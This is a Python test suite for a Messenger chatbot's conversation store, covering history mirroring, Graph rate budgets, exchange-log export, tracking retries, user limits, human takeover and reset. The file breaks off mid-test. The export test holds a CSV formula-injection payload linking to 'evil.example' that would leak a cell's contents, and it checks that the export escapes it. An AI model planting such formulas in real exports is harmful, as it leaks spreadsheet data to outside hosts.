"""The conversation store: mirror, Graph budget, exchange log, export, tracking, limits, takeover, reset."""
import csv
import io
import json
import logging
import os
import sqlite3
import subprocess
import sys
import threading
import time

import pytest
from werkzeug.wrappers import Response

from bot.web.app import create_app
from bot.storage.exchanges import EXPORT_COLUMNS
from bot.storage.schema import SCHEMA
from bot.storage.sqlite import Database
from bot.storage.queue import SQLiteQueue
from bot.replies.tracking import Tracker
from config import ConfigError, load_config
from devtools.emulator import LocalServer, completion, graph_error, json_response, webhooks
from messenger.graph import REPLY_METADATA
from tests.support import PAGE_ID, PSID, ROOT, FakeClock, answer_queue, echo_body, post_signed, text_body, wait_for

OTHER = "2000000000000002"


def say(client, n, text=None, psid=PSID, at=None):
    """User `psid` writes message number n (stamped just now, as Meta does), and the bot answers."""
    at = at or int(time.time() * 1000) + n
    post_signed(client, text_body(f"m_{psid[-3:]}_{n}", text or f"question {n}", psid, at))
    answer_queue(client)


def conversations(client):
    return client.application.extensions["dispatcher"].store.conversations


def log(client):
    return list(conversations(client).export())


# -- 1. the mirror ------------------------------------------------------------------------------
def test_the_mirror_answers_after_the_first_graph_read(client, graph, model):
    graph.add_message(PSID, "Do you deliver?")
    graph.add_message(PSID, "Yes, within 5 km.", from_page=True)
    say(client, 1, "And on Sunday?")
    say(client, 2, "What about Monday?")
    assert len(graph.history_calls()) == 1  # the second prompt came from the mirror
    assert model.requests[1]["json"]["messages"][:-1] == [
        {"role": "user", "content": "Do you deliver?"},
        {"role": "assistant", "content": "Yes, within 5 km."},
        {"role": "user", "content": "And on Sunday?"},
        {"role": "assistant", "content": "Hello from the model."},
    ]
    assert model.requests[1]["json"]["messages"][-1]["content"].endswith(": What about Monday?")


def test_a_mirror_older_than_the_max_age_is_read_again(make_client, graph):
    client = make_client(MIRROR_MAX_AGE="0s", GRAPH_READS_PER_SECOND="1000")
    say(client, 1)
    say(client, 2)
    assert len(graph.history_calls()) == 2


def test_new_users_wait_their_turn_for_history_instead_of_going_without(make_client, graph, model):
    """Three users whose earlier conversation exists on the Page write at once: each gets a
    Graph read, spaced by the Page's budget (2/s -> 0.75 s apart), none is answered blind."""
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="2")
    users = [f"20000000000001{i:02d}" for i in range(3)]
    for i, psid in enumerate(users):
        graph.add_message(psid, f"My order number is 10{i}")
        post_signed(client, text_body(f"m_wait_{i}", "Where is my order?", psid, int(clock() * 1000) + i))
    started = clock()
    answer_queue(client)
    calls = graph.history_calls()
    assert [c.args["user_id"] for c in calls] == users
    assert clock() - started >= 2 * 0.75  # fake time: the second and third waited for their slots
    assert all(f"10{i}" in str(model.requests[i]["json"]["messages"]) for i in range(3))
    assert [r["history"] for r in log(client)] == ["graph"] * 3


def test_a_graph_read_that_blinks_is_tried_once_more(client, graph, model):
    graph.add_message(PSID, "My order number is 104")
    graph.fail_next("history", graph_error(2, "Service temporarily unavailable", status=500))
    say(client, 1, "Where is my order?")
    assert len(graph.history_calls()) == 2 and "104" in str(model.requests[0]["json"]["messages"])
    assert log(client)[0]["history"] == "graph"


def test_the_graph_budget_is_shared_and_spent_reads_fall_back_to_the_mirror(make_client, graph, model):
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="2", HISTORY_WAIT="0")
    users = [f"20000000000001{i:02d}" for i in range(6)]
    for i, psid in enumerate(users):
        post_signed(client, text_body(f"m_burst_{i}", f"hello {i}", psid, int(time.time() * 1000) + i))
    answer_queue(client)
    assert len(graph.history_calls()) == 1  # one read within the budget; five answered from the mirror
    assert sorted(to for to, _ in graph.delivered) == sorted(users)
    # ... and the exchange log says which answers had no Graph history
    assert sorted(r["history"] for r in log(client)) == ["graph"] + ["mirror-only"] * 5
    clock.advance(0.75)  # 2 reads/s, spaced 1.5 / 2 = 0.75 s apart
    post_signed(client, text_body("m_burst_later", "again", users[1], int(time.time() * 1000) + 10))
    answer_queue(client)
    assert [c.args["user_id"] for c in graph.history_calls()] == [users[0], users[1]]


def test_a_new_users_wait_for_history_counts_from_the_arrival_of_their_message(make_client, graph, model):
    """HISTORY_WAIT is from arrival: a message claimed late (a burst, a busy host) does not wait it again."""
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="0.5", HISTORY_WAIT="2s")  # slots 3 s apart

    def arrives(psid):
        post_signed(client, text_body(f"m_{psid}", "hello", psid, int(clock() * 1000)))
    arrives("2000000000000201")
    answer_queue(client)  # takes the slot now; the next one is 3 s away
    arrives("2000000000000202")
    clock.advance(1.5)  # claimed late: waiting 2 s from now would reach the slot, from arrival it does not
    answer_queue(client)  # no wait: answered from the mirror at once
    arrives("2000000000000203")
    answer_queue(client)  # arriving now, the slot 1.5 s away is within its 2 s: it waits for it
    history = {r["psid"]: r["history"] for r in log(client)}
    assert history == {"2000000000000201": "graph", "2000000000000202": "mirror-only", "2000000000000203": "graph"}


def test_a_graph_rate_limit_error_answers_from_the_mirror(client, graph, model):
    graph.fail_next("history", graph_error(613, "Calls to this api have exceeded the rate limit."))
    say(client, 1)
    assert graph.sent_texts(PSID) == ["Hello from the model."]
    assert log(client)[0]["outcome"] == "answered"


def test_the_pages_echoes_enter_the_mirror(client, graph, model):
    say(client, 1)
    post_signed(client, echo_body("m_inbox_1", "A person wrote this.", app_id=263902037430900))
    post_signed(client, echo_body("m_own_1", "An echo of the bot.", metadata=REPLY_METADATA))
    answer_queue(client)  # the reply side drains the webhooks' inbox
    history = conversations(client).history(PSID, "1000000000000001", 10, None)
    assert {h.mid: h.from_id for h in history}.get("m_inbox_1") == "1000000000000001"
    assert "m_own_1" in {h.mid for h in history}


# -- 2. the exchange log and its export ------------------------------------------------------------
def test_one_record_per_exchange_with_usage_latency_and_outcome(client, graph, model):
    say(client, 1, "Hi")
    model.scripted.append(json_response({"error": {"message": "boom"}}, 500))
    say(client, 2, "Still there?")
    video = {"attachments": [{"type": "video", "payload": {"url": "https://example.com/y.mp4"}}]}
    body = text_body("m_video", "", PSID, int(time.time() * 1000) + 3)
    post_signed(client, body.replace(b'"text": ""', json.dumps(video)[1:-1].encode()))
    answer_queue(client)
    graph.fail_next("send", graph_error(551, "This person isn't available right now.", subcode=1545041))
    say(client, 4, "Hello?")
    records = log(client)
    assert [r["outcome"] for r in records] == ["answered", "fallback", "unsupported", "failed"]
    first = records[0]
    assert (first["psid"], first["user_message"], first["bot_message"], first["model"]) == \
        (PSID, "Hi", "Hello from the model.", "test-model")
    assert (first["prompt_tokens"], first["completion_tokens"], first["total_tokens"]) == (10, 5, 15)
    assert first["user_timestamp"].endswith("Z") and first["bot_timestamp"] >= first["user_timestamp"]
    assert records[1]["bot_message"] == "please try again later"
    assert records[2]["user_message"] == "[video]"
    assert json.loads(records[2]["attachments"]) == [["video", None, "unsupported"]]
    assert records[3]["bot_message"] is None and records[3]["bot_timestamp"] is None


def test_the_logs_latency_runs_from_taking_the_message_in_to_the_reply(make_client, graph, model):
    clock = FakeClock()
    client = make_client(clock)
    post_signed(client, text_body("m_late_1", "Hi", PSID, int(clock() * 1000)))
    clock.advance(2.5)  # the message waited in the queue, as behind a busy reply process
    answer_queue(client)
    assert graph.sent_texts(PSID) == ["Hello from the model."]
    assert log(client)[0]["latency_ms"] == 2500


def run_export(data_dir, *args):
    return subprocess.run([sys.executable, "-m", "bot", "export", "--data-dir", str(data_dir), *args],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)


def test_export_writes_jsonl_and_csv_with_the_documented_columns(client, env):
    say(client, 1, "Bonjour, \u00e7a va ?")
    say(client, 2, "Line one, \"quoted\"")
    say(client, 3, '=HYPERLINK("https://evil.example/?"&A1,"Click")')  # a formula to a spreadsheet
    as_csv = run_export(env["DATA_DIR"], "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert as_csv.returncode == 0 and tuple(rows[0]) == EXPORT_COLUMNS
    assert [r["user_message"] for r in rows] == ["Bonjour, \u00e7a va ?", "Line one, \"quoted\"",
                                                 '\'=HYPERLINK("https://evil.example/?"&A1,"Click")']
    as_jsonl = run_export(env["DATA_DIR"], "--since", "7d")
    assert [json.loads(line)["outcome"] for line in as_jsonl.stdout.splitlines()] == ["answered"] * 3
    assert json.loads(as_jsonl.stdout.splitlines()[2])["user_message"].startswith("=HYPERLINK")
    nothing = run_export(env["DATA_DIR"], "--since", "2999-01-01")
    assert nothing.stdout == "" and "no exchange records matched" in nothing.stderr
    assert "no exchange records matched" not in as_jsonl.stderr
    bad = run_export(env["DATA_DIR"], "--since", "yesterday-ish")
    assert bad.returncode == 2 and "not a date, a time or an age" in bad.stderr
    missing = run_export(os.path.join(env["DATA_DIR"], "nope"))
    assert missing.returncode == 2 and "no database at" in missing.stderr


def test_export_with_a_data_dir_and_database_url_says_how_to_read_that_folder(client, env):
    """The SQLite store a move leaves as a backup: DATABASE_URL (here one nobody answers at) is
    read, as scripts expect, and the line says how to read the folder's store instead."""
    say(client, 1, "kept in SQLite")

    def export(database_url):
        return subprocess.run([sys.executable, "-m", "bot", "export", "--data-dir", env["DATA_DIR"]], cwd=ROOT,
                              env={**os.environ, "DATABASE_URL": database_url}, capture_output=True, text=True,
                              timeout=60)
    remote = export("postgresql://nobody@127.0.0.1:1/gone")
    assert remote.returncode != 0 and "run it with DATABASE_URL= (empty)" in remote.stderr, remote.stderr
    local = export("")
    assert local.returncode == 0, local.stderr
    assert [json.loads(line)["user_message"] for line in local.stdout.splitlines()] == ["kept in SQLite"]


def test_export_only_reads_the_database(client, env, tmp_path):
    say(client, 1)
    database = os.path.join(env["DATA_DIR"], "bot.sqlite3")
    db = sqlite3.connect(database)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    version = db.execute("PRAGMA user_version").fetchone()[0]
    before = (os.stat(database).st_mtime_ns, open(database, "rb").read())
    assert run_export(env["DATA_DIR"]).returncode == 0
    assert (os.stat(database).st_mtime_ns, open(database, "rb").read()) == before
    db.execute(f"PRAGMA user_version={version - 1}")  # as an older bot left it
    db.commit()
    older = run_export(env["DATA_DIR"])
    assert older.returncode == 2 and "start the bot once" in older.stderr
    assert db.execute("PRAGMA user_version").fetchone()[0] == version - 1  # not migrated by a read


def test_export_says_in_one_line_what_it_cannot_write_and_stops_quietly_for_a_reader_gone(client, env, tmp_path):
    for n in range(1, 4):
        say(client, n)
    nowhere = run_export(env["DATA_DIR"], "--output", str(tmp_path / "no-such-folder" / "log.csv"))
    assert nowhere.returncode == 2 and "Traceback" not in nowhere.stderr
    assert nowhere.stderr == f"cannot write {tmp_path / 'no-such-folder' / 'log.csv'}: No such file or directory\n"
    newer = sqlite3.connect(os.path.join(env["DATA_DIR"], "bot.sqlite3"))
    version = newer.execute("PRAGMA user_version").fetchone()[0]
    newer.execute(f"PRAGMA user_version={version + 1}")  # as a newer bot left it, its change not additive
    newer.execute("UPDATE schema_compat SET min_code_version = ?", (version + 1,))
    newer.commit()
    line = run_export(env["DATA_DIR"]).stderr
    assert "newer than this code" in line and "start the bot once" not in line
    wrong = run_export(env["DATA_DIR"], "--database-url", "mysql://bot@db/bot")  # not a PostgreSQL URL
    assert wrong.returncode == 2 and wrong.stderr.startswith("cannot export: the database URL must look like")
    assert wrong.stderr.count("\n") == 1
    newer.execute(f"PRAGMA user_version={version}")
    columns = ", ".join(row[1] for row in newer.execute("PRAGMA table_info(interactions)") if row[1] != "id")
    for _ in range(10):  # 3,072 records: more than a pipe holds, so the export is still writing
        newer.execute(f"INSERT INTO interactions ({columns}) SELECT {columns} FROM interactions")
    newer.commit()
    # `export | head -1`: the reader leaves after one line
    export = subprocess.Popen([sys.executable, "-m", "bot", "export", "--data-dir", str(env["DATA_DIR"]), "--format",
                               "csv"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert export.stdout.readline().startswith(EXPORT_COLUMNS[0])
    export.stdout.close()
    assert export.wait(timeout=60) == 0 and "Traceback" not in export.stderr.read()


def test_retention_deletes_old_records_but_keeps_those_waiting_for_tracking(make_client, tmp_path):
    client = make_client(RETENTION_DAYS="30")
    old = int(time.time() * 1000) - 40 * 86400 * 1000
    say(client, 1, "old question", at=old)
    say(client, 2, "new question")
    client.application.extensions["dispatcher"].prune()
    assert [r["user_message"] for r in log(client)] == ["new question"]
    db = sqlite3.connect(tmp_path / "data" / "bot.sqlite3")
    assert db.execute("SELECT COUNT(*) FROM mirror WHERE text = 'old question'").fetchone()[0] == 0
    tracked = make_client(RETENTION_DAYS="30", TRACKING_URL="http://127.0.0.1:9/track")
    say(tracked, 3, "old but not yet tracked", at=old)
    tracked.application.extensions["dispatcher"].prune()
    assert "old but not yet tracked" in [r["user_message"] for r in log(tracked)]


# -- 3. the tracking endpoint ----------------------------------------------------------------------
class Endpoint(LocalServer):
    def __init__(self, statuses=(), sleep=0.0):
        super().__init__()
        self.statuses, self.sleep = list(statuses), sleep
        self.received: list[tuple[int, dict]] = []

    def handle(self, request):
        time.sleep(self.sleep)
        status = self.statuses.pop(0) if self.statuses else 200
        self.received.append((status, request.get_json()))
        return Response("", status)


@pytest.fixture
def endpoint():
    server = Endpoint().start()
    yield server
    server.stop()


def test_tracking_is_retried_while_the_endpoint_is_down_then_delivered_once(make_client, endpoint, caplog):
    endpoint.statuses = [503, 503]
    client = make_client(TRACKING_URL=endpoint.url + "/track")
    say(client, 1, "Hi")
    tracker = Tracker(conversations(client), endpoint.url + "/track", retry_base=0.05)
    with caplog.at_level(logging.WARNING):
        assert wait_for(lambda: tracker.send_waiting() or any(s == 200 for s, _ in endpoint.received), 5)
    assert [s for s, _ in endpoint.received] == [503, 503, 200]
    record = endpoint.received[-1][1]
    assert {k: record[k] for k in ("session_id", "user_message", "bot_message", "engine")} == \
        {"session_id": PSID, "user_message": "Hi", "bot_message": "Hello from the model.", "engine": "test-model"}
    assert record["user_timestamp"].endswith("Z") and record["bot_timestamp"].endswith("Z")
    assert tracker.send_waiting() == 0 and len(endpoint.received) == 3  # delivered once, never again
    assert sum("tracking endpoint failed (HTTP 503)" in r.getMessage() for r in caplog.records) == 1


def test_two_hosts_trackers_post_each_record_once(make_client, endpoint):
    """Every host runs a tracker over the one outbox (PostgreSQL): each record is posted by one."""
    client = make_client(TRACKING_URL=endpoint.url + "/track")
    for n in range(1, 5):
        say(client, n, f"question {n}")
    endpoint.sleep = 0.2  # both are busy posting at once
    trackers = [Tracker(conversations(client), endpoint.url + "/track") for _ in range(2)]
    threads = [threading.Thread(target=tracker.send_waiting) for tracker in trackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    posted = [body["user_message"] for _, body in endpoint.received]
    assert sorted(posted) == [f"question {n}" for n in range(1, 5)], posted


def test_tracking_goes_on_after_the_database_fails_once(make_client, endpoint):
    """A PostgreSQL restart makes a read of the exchange log fail: the tracking thread must live on."""
    client = make_client(TRACKING_URL=endpoint.url + "/track")
    say(client, 1, "Hi")
    store = conversations(client)

    class Blinking:
        failures = 1

        def __getattr__(self, name):
            return getattr(store, name)

        def waiting_for_tracking(self):
            if self.failures:
                self.failures -= 1
                raise OSError("server closed the connection unexpectedly")
            return store.waiting_for_tracking()
    stopping = threading.Event()
    Tracker(Blinking(), endpoint.url + "/track", interval=0.05).start(stopping)
    try:
        assert wait_for(lambda: [s for s, _ in endpoint.received] == [200], 5)
    finally:
        stopping.set()


def test_a_slow_tracking_endpoint_never_delays_replies(env, graph, endpoint):
    endpoint.sleep = 4.0  # under the tracker's 5 s timeout: it waits the whole time
    config = load_config({**env, "TRACKING_URL": endpoint.url + "/track"}, env_file=None)
    app = create_app(config, replies="threads")
    try:
        client = app.test_client()
        post_signed(client, text_body("m_slow_1", "one", PSID, int(time.time() * 1000)))
        time.sleep(1.2)  # the tracker is now stuck on the first record
        started = time.monotonic()
        post_signed(client, text_body("m_slow_2", "two", OTHER, int(time.time() * 1000)))
        assert graph.wait_for_deliveries(2, 3.0)
        assert time.monotonic() - started < 2.0  # the tracker is still waiting on the endpoint
    finally:
        app.extensions["dispatcher"].stop(timeout=5)


def test_an_unreachable_tracking_endpoint_is_a_warning(make_client, caplog):
    client = make_client(TRACKING_URL="http://127.0.0.1:9/track")
    say(client, 1)
    with caplog.at_level(logging.WARNING):
        assert Tracker(conversations(client), "http://127.0.0.1:9/track").send_waiting() == 0
    assert "tracking endpoint failed (ConnectionError)" in caplog.text
    assert log(client)[0]["outcome"] == "answered"


# -- 4. per-user limits ------------------------------------------------------------------------------
def test_rate_limit_sends_one_notice_per_window_and_skips_the_model(make_client, graph, model):
    client = make_client(RATE_LIMIT="2/minute")
    for n in range(1, 5):
        say(client, n)
    say(client, 1, psid=OTHER)  # another user has a budget of their own
    assert len(model.requests) == 3
    assert graph.sent_texts(PSID) == ["Hello from the model."] * 2 + [load_config_default("rate_limit_reply")]
    assert [r["outcome"] for r in log(client) if r["psid"] == PSID] == \
        ["answered", "answered", "rate-limited", "rate-limited"]
    say(client, 5, "a minute later", at=int(time.time() * 1000) + 61_000)  # the window has passed
    assert len(model.requests) == 4


def test_daily_token_budget_stops_model_calls_with_one_notice(make_client, graph, model):
    noon = float(int(time.time()) // 86400 * 86400 + 43200)  # the day's budget cannot roll over mid-test
    client = make_client(FakeClock(noon), DAILY_TOKEN_BUDGET="20", RATE_LIMIT="off")
    for n in range(1, 5):
        say(client, n)
    assert len(model.requests) == 2  # 15 tokens, then 30 >= 20
    assert graph.sent_texts(PSID)[2:] == [load_config_default("budget_reply")]
    assert [r["outcome"] for r in log(client)][2:] == ["over-budget", "over-budget"]


def load_config_default(name):
    from config import Config
    return Config.__dataclass_fields__[name].default


# -- 5. human takeover -------------------------------------------------------------------------------
def test_a_human_echo_pauses_the_bot_and_its_own_echo_does_not(make_client, graph, model):
    client = make_client(FB_APP_ID="4242")
    post_signed(client, echo_body("m_own", "bot reply", metadata=REPLY_METADATA))
    post_signed(client, echo_body("m_own_app", "bot reply", app_id=4242))
    say(client, 1)
    assert graph.sent_texts(PSID) == ["Hello from the model."]
    now_ms = int(time.time() * 1000)  # a person pauses the bot from when they wrote
    post_signed(client, echo_body("m_person", "A person here", app_id=263902037430900, timestamp=now_ms))
    say(client, 2, "Thanks, person!")
    post_signed(client, echo_body("m_other_tool", "no app id at all", psid=OTHER, timestamp=now_ms))
    say(client, 1, psid=OTHER)
    assert graph.sent_texts() == ["Hello from the model."] and len(model.requests) == 1
    assert [r["outcome"] for r in log(client)] == ["answered", "paused", "paused"]


def test_the_pause_ends_and_each_human_message_extends_it(make_client, graph):
    clock = FakeClock()
    client = make_client(clock, HUMAN_PAUSE="60s")
    post_signed(client, echo_body("m_p1", "person", app_id=1, timestamp=int(clock() * 1000)))
    clock.advance(40)
    post_signed(client, echo_body("m_p2", "person again", app_id=1, timestamp=int(clock() * 1000)))
    clock.advance(40)
    say(client, 1, at=int(clock() * 1000))  # 80 s after the first, 40 s after the second: still paused
    assert graph.sent_texts() == []
    clock.advance(20.001)  # 60 s after the second
    say(client, 2, at=int(clock() * 1000))
    assert graph.sent_texts() == ["Hello from the model."]


def test_human_pause_off_never_pauses(make_client, graph):
    client = make_client(HUMAN_PAUSE="off")
    post_signed(client, echo_body("m_p1", "person", app_id=1))
    say(client, 1)
    assert graph.sent_texts() == ["Hello from the model."]


# -- 6. reset ------------------------------------------------------------------------------------------
def test_reset_starts_a_fresh_context(client, graph, model):
    graph.add_message(PSID, "My name is Ana.")
    graph.add_message(PSID, "Nice to meet you, Ana.", from_page=True)
    say(client, 1, "What is my name?")
    say(client, 2, "  RESET ")
    assert graph.sent_texts(PSID)[-1] == load_config_default("reset_reply")
    assert len(model.requests) == 1  # the confirmation needs no model
    say(client, 3, "What is my name now?")
    contents = [m["content"] for m in model.requests[-1]["json"]["messages"]]
    assert not any("Ana" in c or "What is my name?" in c for c in contents)
    assert contents[-1].endswith(": What is my name now?")
    assert [r["outcome"] for r in log(client)] == ["answered", "reset", "answered"]


def test_a_question_written_right_after_the_reset_word_is_answered_in_the_fresh_context(client, graph, model):
    """Found by a probe: "reset" and the question after it, answered as one batch, got only the
    confirmation. They make one batch when written while the previous answer is on its way: that
    answer (sent after the word) is left out too, the question kept for later prompts."""
    model.reply = lambda messages: "Nice to meet you, Ana." if "Ana" in messages[-1]["content"] else "Hello."
    now = int(time.time() * 1000)
    post_signed(client, text_body("m_user_0", "My name is Ana.", PSID, now - 2000))
    answer_queue(client)  # its answer goes out now, after the two below were written
    post_signed(client, text_body("m_user_1", "reset", PSID, now - 1000))
    post_signed(client, text_body("m_user_2", "What is my name now?", PSID, now - 900))
    answer_queue(client)
    assert graph.sent_texts(PSID) == ["Nice to meet you, Ana.", "Hello."] and len(model.requests) == 2
    contents = [m["content"] for m in model.requests[-1]["json"]["messages"]]
    assert len(contents) == 1 and contents[-1].endswith(": What is my name now?"), contents
    say(client, 3, "and my surname?")
    contents = [m["content"] for m in model.requests[-1]["json"]["messages"]]
    assert contents[:-1] == ["What is my name now?", "Hello."], contents
    assert [r["outcome"] for r in log(client)] == ["answered", "answered", "answered"]


def test_after_a_reset_with_a_question_the_graph_history_keeps_the_question(make_client, graph, model):
    """History read from Graph (MIRROR_MAX_AGE=0s): its times are whole seconds, and the question
    written in the reset's second was cut from later prompts while its answer was kept."""
    client = make_client(MIRROR_MAX_AGE="0s", GRAPH_READS_PER_SECOND="1000")  # a read for each answer
    graph.add_message(PSID, "My name is Ana.", mid="m_user_0")
    graph.add_message(PSID, "Nice to meet you, Ana.", from_page=True)
    now = int(time.time() * 1000)
    for n, text in ((1, "reset"), (2, "What is my name now?")):
        graph.add_message(PSID, text, mid=f"m_user_{n}")
        post_signed(client, text_body(f"m_user_{n}", text, PSID, now + n))
    answer_queue(client)
    graph.add_message(PSID, "and my surname?", mid="m_user_3")
    post_signed(client, text_body("m_user_3", "and my surname?", PSID, now + 3))
    answer_queue(client)
    contents = [m["content"] for m in model.requests[-1]["json"]["messages"]]
    assert contents[:-1] == ["What is my name now?", "Hello from the model."], contents
    assert [r["history"] for r in log(client)] == ["graph", "graph"], log(client)


def test_a_request_for_a_person_before_the_reset_word_still_hands_over(client, graph, model):
    now = int(time.time() * 1000)
    for n, text in enumerate(["person", "reset", "What time do you open?"]):
        post_signed(client, text_body(f"m_user_{n}", text, PSID, now + n))
    answer_queue(client)
    assert model.requests == [] and log(client)[0]["outcome"] == "handoff"


def test_reset_followed_by_a_sticker_only_confirms_the_reset(client, graph, model):
    now = int(time.time() * 1000)
    post_signed(client, text_body("m_user_0", "reset", PSID, now))
    post_signed(client, webhooks.delivery_body(PAGE_ID, [webhooks.user_event(
        PAGE_ID, PSID, "m_user_1", attachments=[webhooks.sticker_attachment("https://cdn.example/like.png")],
        at_ms=now + 1)]))
    answer_queue(client)
    assert graph.sent_texts(PSID) == [load_config_default("reset_reply")] and model.requests == []


# -- settings and schema -------------------------------------------------------------------------------
def test_limit_settings_parse_and_bad_ones_are_named(env):
    config = load_config({**env, "RATE_LIMIT": "10/hour", "HUMAN_PAUSE": "45", "MIRROR_MAX_AGE": "2h",
                          "DAILY_TOKEN_BUDGET": "5000", "TRACKING_URL": "https://example.com/t"}, env_file=None)
    assert (config.rate_limit, config.human_pause_seconds, config.mirror_max_age_seconds) == ((10, 3600.0), 2700.0,
                                                                                                7200.0)
    assert load_config({**env, "RATE_LIMIT": "off"}, env_file=None).rate_limit is None
    with pytest.raises(ConfigError) as error:
        load_config({**env, "RATE_LIMIT": "five a minute", "HUMAN_PAUSE": "soon", "TRACKING_URL": "ftp://x",
                     "DAILY_TOKEN_BUDGET": "lots", "FB_APP_ID": "app"}, env_file=None)
    message = str(error.value)
    for problem in ("RATE_LIMIT must look like 5/minute", "HUMAN_PAUSE must be a duration",
                    "TRACKING_URL must be an http(s) URL", "DAILY_TOKEN_BUDGET must be an integer",
                    "FB_APP_ID must be digits only"):
        assert problem in message


def test_a_version_2_database_is_migrated_in_place(tmp_path):
    path = str(tmp_path / "bot.sqlite3")
    with Database(path, SCHEMA[:2]).write() as db:
        db.execute("INSERT INTO events (dedupe_key, psid, message, timestamp_ms, received_at, state, reply)"
                   " VALUES ('m_old', 'p', '{}', 1, 1, 'done', 'a plain-text reply')")
    store = SQLiteQueue(path)
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA user_version").fetchone()[0] == len(SCHEMA)
    assert store.states() == {"m_old": "done"}
    assert db.execute("SELECT COUNT(*) FROM interactions").fetchone()[0] == 0


def test_a_reply_in_parts_is_mirrored_part_by_part(client, graph, model):
    paragraphs = [f"Part {i}. " + "bread " * 300 for i in range(3)]
    model.scripted.append(json_response(completion("\n\n".join(paragraphs))))
    say(client, 1)
    say(client, 2)
    history = [m["content"] for m in model.requests[-1]["json"]["messages"]]
    assert [h.split(".")[0] for h in history[1:4]] == ["Part 0", "Part 1", "Part 2"]
    assert log(client)[0]["bot_message"].count("Part") == 3  # the log keeps the whole reply


def test_a_graph_rate_limit_error_holds_further_reads(make_client, graph):
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="100")
    graph.fail_next("history", graph_error(613, "Calls to this api have exceeded the rate limit."))
    say(client, 1)
    clock.advance(0.2)  # the normal spacing (15 ms) has passed; the hold (RATE_LIMIT_BACKOFF_S) has not
    say(client, 1, psid=OTHER)
    assert len(graph.history_calls()) == 1 and len(graph.sent_texts()) == 2


def test_the_answer_cache_answers_the_same_request_without_a_model_call(make_client, graph, model):
    client = make_client(ANSWER_CACHE_TTL="1h")
    say(client, 1, "What time do you open?", psid="2000000000000201")
    say(client, 1, "What time do you open?", psid="2000000000000202")
    say(client, 2, "And on Sunday?", psid="2000000000000202")  # another request: the model again
    assert len(model.requests) == 2
    assert graph.sent_texts("2000000000000202")[0] == graph.sent_texts("2000000000000201")[0]
    assert [r["outcome"] for r in log(client)] == ["answered", "cached", "answered"]
    assert log(client)[1]["total_tokens"] is None  # a cached answer spends no tokens of the user's budget


def test_the_answer_cache_is_off_by_default(client, graph, model):
    say(client, 1, "What time do you open?", psid="2000000000000201")
    say(client, 1, "What time do you open?", psid="2000000000000202")
    assert len(model.requests) == 2


def test_a_second_store_on_the_file_keeps_the_first_ones_locks(tmp_path):
    """Closing any descriptor of a file drops every POSIX lock the process holds on it: a second
    store that opened and closed the file would let another process, closing last, delete the
    WAL from under the first store's live connection."""
    path = str(tmp_path / "bot.sqlite3")
    first = SQLiteQueue(path)
    first.conversations.update_user("u1", synced_at=1.0)
    SQLiteQueue(path)  # e.g. the website chat's store beside the app's, in one process
    reader = f"import sqlite3; db = sqlite3.connect({path!r}); db.execute('SELECT COUNT(*) FROM users'); db.close()"
    subprocess.run([sys.executable, "-c", reader], check=True, timeout=30)
    assert os.path.exists(path + "-wal"), "another process took the WAL from a live connection"
    first.conversations.update_user("u2", synced_at=2.0)
    assert first.conversations.user("u2").synced_at == 2.0


def died_mid_send(client, clock, text="We deliver on weekdays."):
    """A reply process claimed the user's message and died sending `text`; its lease runs out."""
    from bot.replies.answer import Answer, Outcome

    dispatcher = client.application.extensions["dispatcher"]
    post_signed(client, text_body("m_mid_send", "Do you deliver?", PSID, int(clock() * 1000)))
    dispatcher.drain()
    batch = dispatcher.store.claim("process-that-dies", 30)
    dispatcher.store.sending(batch, Answer(text, Outcome.ANSWERED).to_json(), 0, 30)
    clock.advance(31)
    return dispatcher.store


def test_a_takeover_asks_graph_whether_a_send_went_out_in_its_turn_of_the_pages_budget(make_client, graph, model):
    """A reply process died mid-send; the one that takes the batch over asks Graph whether the
    send went out - taking its turn in the Page's read budget, not jumping it (a dead host
    leaves many such checks at once, and a read Meta refuses for the rate cannot tell, which
    means looking again later)."""
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="2")  # reads 0.75 s apart
    store = died_mid_send(client, clock)
    graph.add_message(PSID, "We deliver on weekdays.", from_page=True)  # it went out
    budget = store.conversations
    for _ in range(2):  # two other replies just took the Page's next two reads
        assert budget.reserve_graph_read(PAGE_ID, 2, latest=clock() + 10) is not None
    started = clock()
    answer_queue(client)
    assert graph.sent_texts(PSID) == []  # not sent twice...
    assert len(graph.history_calls()) == 1
    assert clock() - started >= 1.5  # ...and its read waited for the slot after the other two
    assert store.states() == {"m_mid_send": "done"}


@pytest.mark.parametrize("blink", ["graph-fails", "no-read-slot"])
def test_a_takeover_that_cannot_tell_whether_a_send_went_out_looks_again_later(make_client, graph, model, blink):
    """Graph could not say (it failed, or no read slot came within the wait): the takeover does
    not send it again on a guess - it went out - but looks again on the next try."""
    clock = FakeClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="2")
    store = died_mid_send(client, clock)
    graph.add_message(PSID, "We deliver on weekdays.", from_page=True)  # it went out
    if blink == "graph-fails":
        graph.fail_next("history", graph_error(2, "An unexpected error has occurred.", status=500))
    else:  # other checks took every read of the next 11 s
        while store.conversations.reserve_graph_read(PAGE_ID, 2, latest=clock() + 11) is not None:
            pass
    answer_queue(client)
    assert graph.sent_texts(PSID) == [] and store.states() == {"m_mid_send": "pending"}
    clock.advance(60)  # past the retry's backoff and the spent reads
    answer_queue(client)
    assert graph.sent_texts(PSID) == []  # found this time: never sent twice
    assert store.states() == {"m_mid_send": "done"}
    assert len(model.requests) == 0  # the answer kept from the process that died


def test_a_look_that_outlasts_the_lease_sends_nothing_once_another_host_took_over(make_client, graph, model):
    """The look for a send in doubt can wait ~10 s for a read slot, longer than a lease; the write
    that proves the batch is still this owner's comes after it, right before the send."""
    class VisitedClock(FakeClock):
        visit = None

        def sleep(self, seconds):  # the look's wait for its read slot
            self.advance(seconds)
            if self.visit:
                self.visit()
                self.visit = None
    clock = VisitedClock()
    client = make_client(clock, GRAPH_READS_PER_SECOND="2", LEASE_SECONDS="4")
    store = died_mid_send(client, clock)  # ...before the send reached Meta
